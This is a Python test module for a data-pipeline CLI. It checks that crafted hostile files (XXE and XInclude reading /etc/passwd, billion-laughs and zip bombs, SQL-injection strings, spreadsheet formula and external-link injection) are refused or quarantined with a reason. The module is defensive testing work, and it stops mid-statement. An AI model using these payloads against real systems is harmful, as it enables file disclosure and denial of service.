"""Hostile and broken input at the file entry points: `lienthong validate`, `lienthong receive`, `lienthong sync files`.

Each case writes a crafted file — a CSV, a workbook, an XML message, a JSON file, a signed exchange
package, a drop-folder entry — runs the command on it in this process and checks issue 10 §5: the
row is quarantined with its rule id, or the file refused with its reason in one line (`validate`:
exit 2 and `lienthong: error: <file>: <reason>`; `receive`: exit 1, `refused: <reason>` and
`ops_package` refused; `sync files`: the file moved to `rejected/` with `<name>.reason.txt` and named
with its reason in the stream's summary line); within a time bound, and a memory bound for the big
inputs; never a traceback, a partial load or a lost file (every file is still in the drop folder,
`rejected/` or `archive/`, its bytes unchanged).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from connectors.base import Window
from connectors.filedrop import JUSTICE_AGENCY, MAX_LINE_BYTES, MAX_NAME_BYTES, MAX_XLSX_MEMBERS
from connectors.settings import connection_from_uri
from exchange.packages import MAX_PART_BYTES, build_package
from simulators.filedrop import write_commune_report_xlsx, write_justice_csv, write_procedure_catalogue_xlsx
from simulators.lgsp import RecordingServer, build_billion_laughs_message, build_message, build_xxe_message
from tests.hostile.file_sources import (
    EXCHANGE_SENDER,
    SYMLINK,
    add_empty_members,
    add_external_link,
    add_zeros,
    append_member,
    billion_laughs_doctype,
    damage_member,
    justice_code,
    justice_procedure,
    justice_records,
    package_record,
    report_row,
    resigned,
    rewrite_members,
    understate_size,
    with_doctype,
    write_zip,
)
from tests.hostile.net_sources import CraftedPortal, Outcome, measured, sync_answer
from tests.province import TEST_KEY, quarantine_rules, query_rows, settings
from transforms.timefmt import LOCAL_TZ

# A hang guard, not a speed goal: a hostile input must not stall a command (a bomb, a drip); the
# bound is loose enough for a loaded 2-core CI machine (20 s failed once with two test workers
# beside a running Airflow cluster: 22 s for a 500 kB CSV field).
SECONDS = 55
COMMUNE, MONTH = "08707", "2017-03"
REPORT = f"baocao_{COMMUNE}_{MONTH}.xlsx"
SHEET = "xl/worksheets/sheet1.xml"
# what a refused file must leave as it was
ROWS = ["fact_dossier", "fact_dossier_event", "fact_service_stat", "ops_quarantine", "dim_procedure"]
CODES = [justice_code(n) for n in (1, 2, 3)]


# -- the warehouse, the drop folder and the commands ---------------------------------------------------


@pytest.fixture(scope="module")
def catalogue(tmp_path_factory) -> str:
    """A migrated SQLite warehouse holding the Justice procedure (its dossiers pass in_catalogue)."""
    from warehouse.db import upgrade

    url = f"sqlite:///{tmp_path_factory.mktemp('catalogue') / 'warehouse.db'}"
    upgrade(url)
    _sync_catalogue(url)
    return url


def _sync_catalogue(url: str) -> None:
    """The Justice procedure into the warehouse at `url`, as the portal's catalogue sync loads it."""
    from datetime import datetime

    from pipeline.sync import sync_stream
    from warehouse.db import create_engine

    engine = create_engine(url)
    window = Window(datetime(2000, 1, 1, tzinfo=LOCAL_TZ), datetime(2017, 9, 1, tzinfo=LOCAL_TZ))
    try:
        with CraftedPortal({"LayDanhSachTTHC": sync_answer([justice_procedure()])}) as portal:
            sync_stream("national_portal", "procedures", engine=engine, connection=connection_from_uri(portal.uri),
                        settings=settings(), window=window)
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def signing(tmp_path_factory):
    """The sending agency's key, and the folder of trusted keys holding its public half."""
    from exchange.keys import generate_keypair, load_signing_key

    folder = tmp_path_factory.mktemp("keys")
    private, _ = generate_keypair(folder, EXCHANGE_SENDER, "k1")
    return load_signing_key(str(private), "k1"), folder / "trusted"


class Files:
    """`lienthong …` in this process, with a drop folder and a fresh copy of the catalogue warehouse.

    `put` writes a file into the drop folder and remembers its bytes; `assert_nothing_lost` then
    finds each such file, unchanged, in the drop folder, `rejected/` or `archive/`.
    """

    def __init__(self, url: str, folder: Path, monkeypatch: pytest.MonkeyPatch,
                 capsys: pytest.CaptureFixture[str]) -> None:
        self.url, self.folder, self._capsys = url, folder, capsys
        self.drop = folder / "drop"
        self.drop.mkdir()
        self._env = monkeypatch
        self._written: dict[str, str] = {}  # name as dropped → sha256 of its bytes (or of a link's target)

    def run(self, *argv: str) -> Outcome:
        from pipeline.cli import main

        self._capsys.readouterr()
        started = time.perf_counter()
        code = main(list(argv))
        seconds = time.perf_counter() - started
        captured = self._capsys.readouterr()
        assert "Traceback" not in captured.err, captured.err
        return Outcome(code, captured.out, captured.err, seconds)

    def sync(self, stream: str) -> Outcome:
        return self.run("sync", "files", "--stream", stream)

    def validate(self, path: Path, *options: str) -> Outcome:
        return self.run("validate", "--lang", "en", *options, str(path))

    def receive(self, path: Path) -> Outcome:
        return self.run("receive", str(path))

    def stable_seconds(self, seconds: float) -> None:
        self._env.setenv("LIENTHONG_FILE_STABLE_SECONDS", str(seconds))

    # -- the drop folder --

    def path(self, name: str) -> Path:
        return self.drop / name

    def put(self, name: str, data: bytes) -> Path:
        path = self.drop / name
        path.write_bytes(data)
        return self.register(path)

    def register(self, path: Path) -> Path:
        """Remember a file (or link) written into the drop folder by other means."""
        self._written[path.name] = _digest(path)
        return path

    def listing(self) -> list[str]:
        """Every file and link under the drop folder, as paths relative to it (folders left out)."""
        return sorted(str(p.relative_to(self.drop)) for p in self.drop.rglob("*")
                      if p.is_symlink() or not p.is_dir())

    def assert_nothing_lost(self) -> None:
        """Each file put is in the drop folder, `rejected/` or `archive/`, once and unchanged."""
        kept: dict[str, list[str]] = {}
        for place in (self.drop, self.drop / "rejected", self.drop / "archive"):
            if place.is_dir():
                for path in place.iterdir():
                    if path.is_symlink() or path.is_file():
                        kept.setdefault(_digest(path), []).append(str(path.relative_to(self.drop)))
        for name, digest in self._written.items():
            assert len(kept.get(digest, [])) == 1, (name, kept.get(digest), self.listing())

    # -- the warehouse --

    def counts(self) -> dict[str, int]:
        engine = sa.create_engine(self.url)
        try:
            with engine.connect() as conn:
                return {t: conn.execute(sa.text(f"SELECT count(*) FROM {t}")).scalar_one() for t in ROWS}
        finally:
            engine.dispose()

    def quarantine(self) -> dict[str, list[str]]:
        return quarantine_rules(self.url)

    def loaded(self) -> list[str]:
        return sorted(code for (code,) in query_rows(self.url, "SELECT dossier_code FROM fact_dossier"))


def _digest(path: Path) -> str:
    if path.is_symlink():
        return "link:" + os.readlink(path)
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _files(url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys, trusted: Path) -> Files:
    files = Files(url, tmp_path, monkeypatch, capsys)
    monkeypatch.setenv("WAREHOUSE_URL", url)
    monkeypatch.setenv("LIENTHONG_PSEUDONYM_KEY", TEST_KEY)
    monkeypatch.setenv("LIENTHONG_MAX_QUARANTINE_RATE", "1")  # every hostile row shows, none fails the rate
    monkeypatch.setenv("LIENTHONG_FILE_STABLE_SECONDS", "0")
    monkeypatch.setenv("AIRFLOW_CONN_FILE_DROP", files.drop.as_uri())
    monkeypatch.setenv("LIENTHONG_TRUSTED_KEYS", str(trusted))
    monkeypatch.delenv("LIENTHONG_EXCHANGE_AGENCY", raising=False)
    monkeypatch.delenv("LIENTHONG_DEBUG", raising=False)
    return files


@pytest.fixture
def files(catalogue, signing, tmp_path, monkeypatch, capsys) -> Files:
    target = tmp_path / "warehouse.db"
    shutil.copy(sa.engine.make_url(catalogue).database, target)
    return _files(f"sqlite:///{target}", tmp_path, monkeypatch, capsys, signing[1])


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def files_any(request, signing, tmp_path, monkeypatch, capsys) -> Files:
    """The commands on SQLite, and on PostgreSQL (what PostgreSQL cannot store: 32-bit counts, numeric)."""
    if request.param == "sqlite":
        return request.getfixturevalue("files")
    from tests.conftest import create_postgres_database
    from warehouse.db import upgrade

    url, drop = create_postgres_database(request.getfixturevalue("postgres_admin_url"))
    request.addfinalizer(drop)
    upgrade(url)
    _sync_catalogue(url)
    return _files(url, tmp_path, monkeypatch, capsys, signing[1])


def summary(outcome: Outcome, stream: str) -> str:
    """The one summary line of `stream` (asserting the run succeeded and printed one)."""
    assert outcome.code == 0, outcome.err
    (line,) = [line for line in outcome.out.splitlines() if line.startswith(f"file_drop.{stream}: ")]
    return line


def assert_rejected(files: Files, outcome: Outcome, stream: str, name: str, reason: str, *,
                    before: dict[str, int], kept_as: str | None = None) -> None:
    """The file was refused with `reason`: named so in the summary, kept whole in `rejected/` beside
    `<name>.reason.txt`; nothing of it loaded."""
    kept_as = kept_as or name
    line = summary(outcome, stream)
    assert f"rejected 1 ({kept_as}: {reason}" in line, line
    assert re.search(r": read 0, loaded 0 \(0 duplicates merged\), quarantined 0; files archived 0; ", line), line
    written = (files.drop / "rejected" / f"{kept_as}.reason.txt").read_text(encoding="utf-8")
    assert written.startswith(reason) and written.count("\n") == 1 and written.endswith("\n")
    assert (files.drop / "rejected" / kept_as).is_symlink() or (files.drop / "rejected" / kept_as).is_file()
    assert not os.path.lexists(files.drop / name)
    assert files.counts() == before
    files.assert_nothing_lost()
    assert outcome.seconds < SECONDS


# -- lienthong validate: an unreadable file is one line and exit 2 -----------------------------------------


def _portal_json(records: list[dict]) -> bytes:
    return json.dumps([dict(r, DonViXuLy=JUSTICE_AGENCY) for r in records], ensure_ascii=False).encode()


def _justice_csv_bytes(tmp: Path, records: list[dict], encoding: str = "utf-8") -> bytes:
    write_justice_csv(tmp / "export.csv", records, encoding=encoding)
    return (tmp / "export.csv").read_bytes()


def _catalogue_xlsx(tmp: Path, *procedures: dict) -> Path:
    path = tmp / "catalogue.xlsx"
    write_procedure_catalogue_xlsx(path, procedures or [justice_procedure()])
    return path


_MESSAGE = build_message([dict(r, DonViXuLy=JUSTICE_AGENCY) for r in justice_records()], JUSTICE_AGENCY,
                         "000.00.00.H62", "m-1")


def _xlsx_bomb(tmp: Path) -> bytes:
    path = _catalogue_xlsx(tmp)
    add_zeros(path, "xl/media/image1.png", 200 << 20)
    return path.read_bytes()


def _xlsx_many_parts(tmp: Path) -> bytes:
    path = _catalogue_xlsx(tmp)
    add_empty_members(path, MAX_XLSX_MEMBERS + 1)
    return path.read_bytes()


def _xlsx_with_sheet_doctype(doctype: str, new: bytes) -> Callable[[Path], bytes]:
    def build(tmp: Path) -> bytes:
        path = _catalogue_xlsx(tmp)
        rewrite_members(path, {SHEET: with_doctype(doctype, b">1.001234<", b">" + new + b"<")})
        return path.read_bytes()
    return build


def _xlsx_damaged(tmp: Path) -> bytes:
    path = _catalogue_xlsx(tmp, *[dict(justice_procedure(), MaTTHC=f"1.00{n:04d}") for n in range(200)])
    damage_member(path, SHEET)
    return path.read_bytes()


UNREADABLE_FILES = {
    # name: (its bytes from a scratch folder, the reason `validate` gives: the start of it)
    "xxe.xml": (lambda tmp: build_xxe_message("file:///etc/passwd"),
                "XML message refused for safety (external entity declared)"),
    "external-dtd.xml": (
        lambda tmp: _MESSAGE.replace(b"?>", b'?>\n<!DOCTYPE Message SYSTEM "http://127.0.0.1:9/x.dtd">', 1),
        "XML message refused for safety (external DTD declared)"),
    "billion-laughs.xml": (lambda tmp: build_billion_laughs_message(depth=10, width=10),
                           "XML message refused for safety (entity expansion refused)"),
    "elements-nested-1e5-deep.xml": (
        lambda tmp: _MESSAGE.replace(b"<TrichYeuHoSo>", b"<TrichYeuHoSo>" + b"<a>" * 100_000 + b"</a>" * 100_000, 1),
        "unreadable XML (Excessive depth in document: 256, use XML_PARSE_HUGE option"),
    "invalid-utf8.csv": (
        lambda tmp: _justice_csv_bytes(tmp, justice_records()).replace("Lê Thị Hoa".encode(), b"L\xff\xfe Hoa"),
        "cannot decode the file (utf-8: byte 0xFF at offset"),
    "nul-byte.csv": (lambda tmp: _justice_csv_bytes(tmp, justice_records()).replace(b"TP-0002", b"TP-\x000002"),
                     "not a JSON, XML, CSV or xlsx file (binary content)"),
    "field-of-10-mb.csv": (lambda tmp: _justice_csv_bytes(tmp, justice_records({2: {"TrichYeuHoSo": "x" * 10**7}})),
                           "a value is longer than 131072 characters (line or record 3)"),
    "field-of-10-mb.json": (lambda tmp: _portal_json(justice_records({2: {"TrichYeuHoSo": "x" * 10**7}})),
                            "a value is longer than 131072 characters (line or record 2)"),
    "nul-in-a-value.json": (lambda tmp: _portal_json(justice_records({1: {"TrichYeuHoSo": "a\x00b"}})),
                            "a value holds the NUL character (U+0000): binary or damaged data (line or record 1)"),
    "nested-1e5-deep.json": (lambda tmp: b"[" * 100_000 + b"]" * 100_000,
                             "the JSON is nested deeper than 32 levels: not a list of records"),
    "duplicate-keys.json": (
        lambda tmp: _portal_json(justice_records())[:-2] + f', "MaHoSo": "{justice_code(9)}"}}]'.encode(),
        'the key "MaHoSo" appears twice in one JSON object: which value is meant cannot be told'),
    "an-object-for-a-code.json": (
        lambda tmp: _portal_json(justice_records({1: {"MaHoSo": {"$ne": ""}}})),
        'JSON must be a list of records, {"result": [...]} or one record per line: #1 MaHoSo: dict, not one value'),
    "zip-bomb.xlsx": (_xlsx_bomb, "the workbook exceeds the safety limits and is not opened (the workbook inflates "
                                  "to 209"),
    "10001-parts.xlsx": (_xlsx_many_parts, "the workbook exceeds the safety limits and is not opened (the workbook "
                                           f"has {MAX_XLSX_MEMBERS + 10} parts, more than {MAX_XLSX_MEMBERS})"),
    "xxe-in-a-sheet.xlsx": (
        _xlsx_with_sheet_doctype('<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;"),
        "the workbook exceeds the safety limits and is not opened (the workbook part xl/worksheets/sheet1.xml "
        "declares a DOCTYPE (entities, an external DTD): refused unread)"),
    "billion-laughs-in-a-sheet.xlsx": (
        _xlsx_with_sheet_doctype(billion_laughs_doctype("worksheet"), b"&l9;"),
        "the workbook exceeds the safety limits and is not opened (the workbook part xl/worksheets/sheet1.xml "
        "declares a DOCTYPE (entities, an external DTD): refused unread)"),
    "damaged-compressed-sheet.xlsx": (
        _xlsx_damaged, "not a readable xlsx workbook, the file is cut or damaged (Error -3 while decompressing "
                       "data"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", list(UNREADABLE_FILES))
def test_validate_refuses_an_unreadable_file_in_one_line(files, tmp_path, case):
    build, reason = UNREADABLE_FILES[case]
    path = tmp_path / case
    path.write_bytes(build(tmp_path))
    with measured() as cost:
        outcome = files.validate(path)
    assert outcome.code == 2, outcome.out + outcome.err
    assert outcome.error.startswith(f"lienthong: error: {path}: {reason}"), outcome.error
    assert outcome.out == ""
    assert "root:" not in outcome.err  # /etc/passwd was never read
    assert cost["seconds"] < SECONDS
    # read whole (at most MAX_FILE_BYTES), decoded, one line or record at a time: a few times the file
    assert cost["peak"] < 6 * path.stat().st_size + 10_000_000, f"peak {cost['peak'] / 1e6:.0f} MB"


@pytest.mark.timeout(60)
def test_validate_never_blocks_on_a_fifo_a_device_or_a_file_too_large(files, tmp_path):
    os.mkfifo(tmp_path / "fifo.csv")  # reading it would wait for a writer for ever
    (tmp_path / "zero.csv").symlink_to("/dev/zero")  # reading it would never end
    with (tmp_path / "sparse.csv").open("wb") as f:
        f.truncate(300 << 20)  # 300 MB of holes: nothing read
    outcomes = {name: files.validate(tmp_path / name) for name in ("fifo.csv", "zero.csv", "sparse.csv")}
    for name in ("fifo.csv", "zero.csv"):
        assert outcomes[name].code == 2
        assert outcomes[name].error == f"lienthong: error: {tmp_path / name}: cannot open the file (not a regular file)"
    assert outcomes["sparse.csv"].error == (f"lienthong: error: {tmp_path / 'sparse.csv'}: the file is 314572800 "
                                            "bytes, over the limit of 268435456 bytes: split it")
    assert all(outcome.seconds < SECONDS for outcome in outcomes.values())


# -- lienthong validate: a bad value is a finding with its rule ---------------------------------------------


def _with_raw(records: list[dict], n: int, name: str, raw: bytes) -> bytes:
    """The portal JSON of `records` with field `name` of record n written as `raw` (1e999, NaN)."""
    texts = [json.dumps(dict(r, DonViXuLy=JUSTICE_AGENCY), ensure_ascii=False).encode() for r in records]
    texts[n - 1] = texts[n - 1][:-1] + b', "' + name.encode() + b'": ' + raw + b"}"
    return b"[" + b", ".join(texts) + b"]"


def _formula_catalogue(tmp: Path) -> bytes:
    path = _catalogue_xlsx(tmp, justice_procedure(), dict(justice_procedure(), MaTTHC="=HYPERLINK(\"http://x\",\"1.001235\")",
                                                          ThoiHanGiaiQuyet="=1/0"))
    return path.read_bytes()


def _externally_linked_catalogue(tmp: Path, url: str) -> bytes:
    path = _catalogue_xlsx(tmp, justice_procedure(), dict(justice_procedure(), MaTTHC="1.001235",
                                                          ThoiHanGiaiQuyet="=[1]Sheet1!A1"))
    add_external_link(path, url)
    return path.read_bytes()


FINDINGS = {
    # name: (its bytes, the (row, field, rule) found)
    "dates-in-years-1-and-9999.csv": (
        lambda tmp: _justice_csv_bytes(tmp, justice_records({1: {"NgayTiepNhan": "00010101000000"},
                                                             3: {"NgayHenTra": "99991231235959"}})),
        {(2, "NgayTiepNhan", "received_at.valid_datetime"), (4, "NgayHenTra", "due_at.valid_datetime")}),
    "dates-in-years-1-and-9999.json": (
        lambda tmp: _portal_json(justice_records({1: {"NgayTiepNhan": "00010101000000"},
                                                  3: {"NgayHenTra": "99991231235959"}})),
        {(1, "NgayTiepNhan", "received_at.valid_datetime"), (3, "NgayHenTra", "due_at.valid_datetime")}),
    "a-fee-of-5000-digits.json": (
        lambda tmp: _with_raw(justice_records(), 2, "LePhi", b"1" + b"0" * 5000),
        {(2, "LePhi", "fee.valid_amount")}),
    "a-fee-of-1e999.json": (lambda tmp: _with_raw(justice_records(), 2, "LePhi", b"1e999"),
                            {(2, "LePhi", "fee.valid_amount")}),
    "a-fee-of-nan.json": (lambda tmp: _with_raw(justice_records(), 2, "LePhi", b"NaN"),
                          {(2, "LePhi", "fee.valid_amount")}),
    "huge-numbers.csv": (
        lambda tmp: _justice_csv_bytes(tmp, justice_records({1: {"TrangThaiHoSo": "9" * 100},
                                                             2: {"DanhSachLePhi": [{"Gia": "9" * 40}]}})),
        {(2, "TrangThaiHoSo", "status.in_codelist"), (3, "DanhSachLePhi", "fee.valid_amount")}),
    "wrong-types.json": (
        lambda tmp: _portal_json(justice_records({1: {"MaHoSo": 12345}, 2: {"TrangThaiHoSo": True}})),
        {(1, "MaHoSo", "dossier_code.pattern"), (2, "TrangThaiHoSo", "status.in_codelist")}),
    "right-to-left-zero-width-and-sql.csv": (
        lambda tmp: _justice_csv_bytes(tmp, justice_records({
            1: {"MaHoSo": "\u202e" + justice_code(1)}, 2: {"MaHoSo": justice_code(2).replace("-", "-\u200b", 1)},
            3: {"TrichYeuHoSo": "'); DROP TABLE fact_dossier; --", "SoBienNhan": "1 OR 1=1"}})),
        {(2, "MaHoSo", "dossier_code.pattern"), (3, "MaHoSo", "dossier_code.pattern")}),
    "formulas-in-cells.xlsx": (
        _formula_catalogue, {(5, "MaTTHC", "procedure_code.pattern"),
                             (5, "ThoiHanGiaiQuyet", "processing_days.valid_number")}),
    "xinclude.xml": (
        lambda tmp: _MESSAGE.replace(b"<TrichYeuHoSo>", b'<TrichYeuHoSo><xi:include xmlns:xi="http://www.w3.org/2001/'
                                     b'XInclude" href="file:///etc/passwd" parse="text"/>', 1),
        set()),  # a finding of the whole message: below
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", list(FINDINGS))
def test_validate_lists_a_bad_value_with_its_rule(files, tmp_path, case):
    build, expected = FINDINGS[case]
    path = tmp_path / case
    path.write_bytes(build(tmp_path))
    outcome = files.validate(path, "--format", "json")
    assert outcome.code == 1, outcome.err
    report = json.loads(outcome.out)
    assert {(f["row"], f["field"], f["rule"]) for f in report["findings"] if f["row"] is not None} == expected
    if case == "xinclude.xml":  # not processed: an element where the schema wants text
        [finding] = report["findings"]
        assert (finding["field"], finding["rule"]) == ("TrichYeuHoSo", "message.refused")
        assert "Element content is not allowed, because the type definition is simple" in finding["message"]
    assert "root:" not in outcome.out
    assert outcome.seconds < SECONDS


@pytest.mark.timeout(60)
def test_validate_reads_an_external_link_as_a_formula_and_fetches_nothing(files, tmp_path):
    from openpyxl import load_workbook

    from connectors.filedrop import open_workbook

    with RecordingServer() as server:
        path = tmp_path / "linked.xlsx"
        path.write_bytes(_externally_linked_catalogue(tmp_path, f"{server.url}/book.xlsx"))
        linked = load_workbook(path, keep_links=True)
        assert [link.file_link.Target for link in linked._external_links] == [f"{server.url}/book.xlsx"]
        assert open_workbook(path)._external_links == []  # the link is not even read
        outcome = files.validate(path, "--format", "json")
        time.sleep(0.05)  # a fetch, if any, would have arrived by now
        assert server.requests == []
    assert outcome.code == 1
    [finding] = json.loads(outcome.out)["findings"]
    assert (finding["row"], finding["field"], finding["rule"], finding["value"]) == (
        5, "ThoiHanGiaiQuyet", "processing_days.valid_number", "=[1]Sheet1!A1")


# -- lienthong sync files: a hostile file is refused whole, with its reason -------------------------------


def _csv(records: list[dict], encoding: str = "tcvn3") -> Callable[[Files], bytes]:
    def build(files: Files) -> bytes:
        return _justice_csv_bytes(files.folder, records, encoding)
    return build


def _report(files: Files, *rows: dict, month: str = MONTH) -> Path:
    path = files.folder / f"baocao_{COMMUNE}_{month}.xlsx"
    write_commune_report_xlsx(path, COMMUNE, month, rows or [report_row()])
    return path


def _report_bomb(files: Files) -> bytes:
    path = _report(files)
    add_zeros(path, "xl/media/image1.png", 200 << 20)
    return path.read_bytes()


def _report_many_parts(files: Files) -> bytes:
    path = _report(files)
    add_empty_members(path, MAX_XLSX_MEMBERS + 1)
    return path.read_bytes()


def _report_doctype(doctype: str, new: bytes) -> Callable[[Files], bytes]:
    def build(files: Files) -> bytes:
        path = _report(files)
        rewrite_members(path, {SHEET: with_doctype(doctype, b">1.001234<", b">" + new + b"<")})
        return path.read_bytes()
    return build


def _report_damaged(files: Files) -> bytes:
    path = _report(files, *[report_row(f"1.00{n:04d}") for n in range(200)])
    damage_member(path, SHEET)
    return path.read_bytes()


def _tcvn3_with_a_stray(byte: bytes, sidecar: str | None = None) -> Callable[[Files], bytes]:
    def build(files: Files) -> bytes:
        if sidecar:
            files.put(sidecar, b"tcvn3\n")
        data = _justice_csv_bytes(files.folder, justice_records({2: {"TrichYeuHoSo": "Đề nghị @@"}}), "tcvn3")
        return data.replace(b"@@", byte)
    return build


def _report_sheet_twice(files: Files) -> bytes:
    """A report whose sheet comes twice, the second copy with other counts."""
    with zipfile.ZipFile(_report(files, report_row(received=300, online=0, on_time=300, pending=0))) as archive:
        other = archive.read(SHEET)
    path = _report(files)
    append_member(path, SHEET, other)
    return path.read_bytes()


def _report_malformed_workbook_xml(files: Files) -> bytes:
    path = _report(files)
    rewrite_members(path, {"xl/workbook.xml": lambda data: data.replace(b"</sheets>", b"</sheets><x:y/>", 1)})
    return path.read_bytes()


REFUSED_FILES = {
    # name: (stream, its bytes, the reason in the summary and in <name>.reason.txt: the start of it)
    "tuphap_invalid-utf8.csv": (
        "justice_csv",
        lambda files: _csv(justice_records(), "utf-8")(files).replace("Lê Thị Hoa".encode(), b"L\xff\xfe"),
        "line 3: utf-8: byte 0xFF at offset 131 is not valid (invalid start byte)"),
    "tuphap_nul-byte.csv": (
        "justice_csv", lambda files: _csv(justice_records())(files).replace(b"TP-0002", b"TP-\x000002"),
        "line 3: a NUL byte at offset 29 (a binary file?)"),
    "tuphap_field-of-10-mb.csv": (
        "justice_csv", _csv(justice_records({2: {"TrichYeuHoSo": "x" * 10**7}})),
        f"line 3 is longer than {MAX_LINE_BYTES} bytes"),
    "tuphap_field-of-500-kb.csv": (
        "justice_csv", _csv(justice_records({2: {"TrichYeuHoSo": "x" * 500_000}})),
        "line 3: field larger than field limit (131072)"),
    "tuphap_a-byte-no-encoding-has.csv": (  # 0x81: no letter of TCVN3 nor VNI, undefined in cp1252/cp1258
        "justice_csv", _tcvn3_with_a_stray(b"\x81"), "bytes are not valid UTF-8, TCVN3, VNI or cp1258"),
    "tuphap_declared-tcvn3.csv": (  # the same, its encoding declared: the line and byte are named
        "justice_csv", _tcvn3_with_a_stray(b"\x81", sidecar="tuphap_declared-tcvn3.csv.encoding"),
        "line 3: tcvn3: byte 0x81 at offset 158 is not a letter of the encoding"),
    "baocao_zip-bomb": ("service_stat", _report_bomb, "the workbook inflates to 209"),
    "baocao_10001-parts": (
        "service_stat", _report_many_parts,
        f"the workbook has {MAX_XLSX_MEMBERS + 10} parts, more than {MAX_XLSX_MEMBERS}"),
    "baocao_xxe-in-a-sheet": (
        "service_stat", _report_doctype('<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;"),
        "the workbook part xl/worksheets/sheet1.xml declares a DOCTYPE (entities, an external DTD): refused unread"),
    "baocao_billion-laughs-in-a-sheet": (
        "service_stat", _report_doctype(billion_laughs_doctype("worksheet"), b"&l9;"),
        "the workbook part xl/worksheets/sheet1.xml declares a DOCTYPE (entities, an external DTD): refused unread"),
    "baocao_a-part-twice": ("service_stat", _report_sheet_twice,
                            "the workbook holds the part xl/worksheets/sheet1.xml twice"),
    "baocao_malformed-workbook-xml": (  # was: lxml's error failed the stream on every run
        "service_stat", _report_malformed_workbook_xml,
        "damaged XML inside the workbook (Namespace prefix x on y is not defined"),
    "baocao_damaged-compressed-sheet": (  # was: the stream failed on every run, never set aside
        "service_stat", _report_damaged, "not a readable xlsx workbook (Error -3 while decompressing data"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", list(REFUSED_FILES))
def test_sync_files_sets_a_hostile_file_aside_with_its_reason(files, case):
    stream, build, reason = REFUSED_FILES[case]
    name = REPORT if stream == "service_stat" else case
    before = files.counts()
    files.put(name, build(files))
    with measured() as cost:
        outcome = files.sync(stream)
    assert_rejected(files, outcome, stream, name, reason, before=before)
    assert "root:" not in (files.drop / "rejected" / f"{name}.reason.txt").read_text(encoding="utf-8")
    assert cost["peak"] < 16_000_000, f"peak {cost['peak'] / 1e6:.0f} MB"  # streamed, or refused unread


# -- lienthong sync files: a bad row is quarantined with its rule, the rest of the file loads ---------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize("encoding", ["tcvn3", "vni"])
def test_stray_windows_1252_punctuation_is_mapped_or_its_row_quarantined(files, encoding):
    # Word's smart quotes, ellipsis, dashes and bullet as their cp1252 bytes 0x80–0x9F, inside
    # text in a TCVN3 or VNI font: text keeps them, a code with an en dash fails its pattern
    summary_text = "Đề nghị “khẩn” … – cấp bản sao • lần 2 — ‘gấp’"
    en_dash_code = justice_code(3).replace("-", "–")
    files.put(f"tuphap_cp1252_{encoding}.csv",
              _csv(justice_records({2: {"TrichYeuHoSo": summary_text}, 3: {"MaHoSo": en_dash_code}}), encoding)(files))
    written = files.path(f"tuphap_cp1252_{encoding}.csv").read_bytes()
    assert b"\x93kh" in written and b"\x85 \x96" in written and b"\x96170003\x960003" in written
    outcome = files.sync("justice_csv")
    line = summary(outcome, "justice_csv")
    assert line.startswith("file_drop.justice_csv: read 3, loaded 2 (0 duplicates merged), quarantined 1 "
                           "[dossier_code.pattern 1]; files archived 1"), line
    assert files.quarantine() == {en_dash_code: ["dossier_code.pattern"]}
    summaries = dict(query_rows(files.url, "SELECT dossier_code, summary FROM fact_dossier"))
    assert summaries[CODES[1]] == summary_text
    assert sorted(summaries) == CODES[:2]
    [archived] = files.listing()
    assert re.fullmatch(rf"archive/[0-9a-f]{{64}}__tuphap_cp1252_{encoding}\.csv", archived), archived
    files.assert_nothing_lost()


@pytest.mark.timeout(60)
def test_justice_rows_with_impossible_years_or_huge_numbers_are_quarantined_row_by_row(files_any):
    records = justice_records({1: {"NgayTiepNhan": "00010101000000"}, 2: {"NgayHenTra": "99991231235959"},
                               3: {"TrangThaiHoSo": "9" * 100}, 4: {"DanhSachLePhi": [{"Gia": "9" * 40}]},
                               5: {"DanhSachLePhi": [{"Gia": str(10**12)}]}}, count=6)
    files_any.put("tuphap_values.csv", _csv(records)(files_any))
    outcome = files_any.sync("justice_csv")
    line = summary(outcome, "justice_csv")
    assert "read 6, loaded 1 (0 duplicates merged), quarantined 5" in line, line
    assert files_any.quarantine() == {
        CODES[0]: ["received_at.valid_datetime"],
        CODES[1]: ["due_at.valid_datetime"],
        CODES[2]: ["status.in_codelist"],
        justice_code(4): ["fee.valid_amount"],
        justice_code(5): ["fee.valid_amount"],  # beyond NUMERIC(14, 2)
    }
    assert files_any.loaded() == [justice_code(6)]
    files_any.assert_nothing_lost()
    assert outcome.seconds < SECONDS


@pytest.mark.timeout(60)
def test_sql_right_to_left_and_zero_width_text_is_data(files):
    texts = {2: "'); DROP TABLE fact_dossier; --", 3: "\u202eTrích yếu\u200b đảo chiều\u2066x\u2069"}
    rtl_code = "\u202e" + justice_code(4)
    records = justice_records({2: {"TrichYeuHoSo": texts[2]}, 3: {"TrichYeuHoSo": texts[3]}, 4: {"MaHoSo": rtl_code}},
                              count=4)
    files.put("tuphap_text.csv", _csv(records, "utf-8")(files))
    outcome = files.sync("justice_csv")
    assert "read 4, loaded 3 (0 duplicates merged), quarantined 1 [dossier_code.pattern 1]" in summary(
        outcome, "justice_csv")
    assert files.quarantine() == {rtl_code: ["dossier_code.pattern"]}
    summaries = dict(query_rows(files.url, "SELECT dossier_code, summary FROM fact_dossier"))
    assert summaries[CODES[1]] == texts[2] and summaries[CODES[2]] == texts[3]
    assert files.counts()["fact_dossier"] == 3  # the table is still there


@pytest.mark.timeout(60)
def test_formulas_in_report_cells_are_read_as_text_never_evaluated(files):
    from openpyxl import load_workbook

    # Excel caches a formula's value (<v>): the counts would read 3 and 1 if it were taken
    path = _report(files, report_row(), report_row("1.001236", received="=1+2", online="=[1]Sheet1!A1"),
                   report_row('=HYPERLINK("http://127.0.0.1:9/x","1.001237")'))
    rewrite_members(path, {SHEET: lambda data: data.replace(b"<f>1+2</f><v></v>", b"<f>1+2</f><v>3</v>")
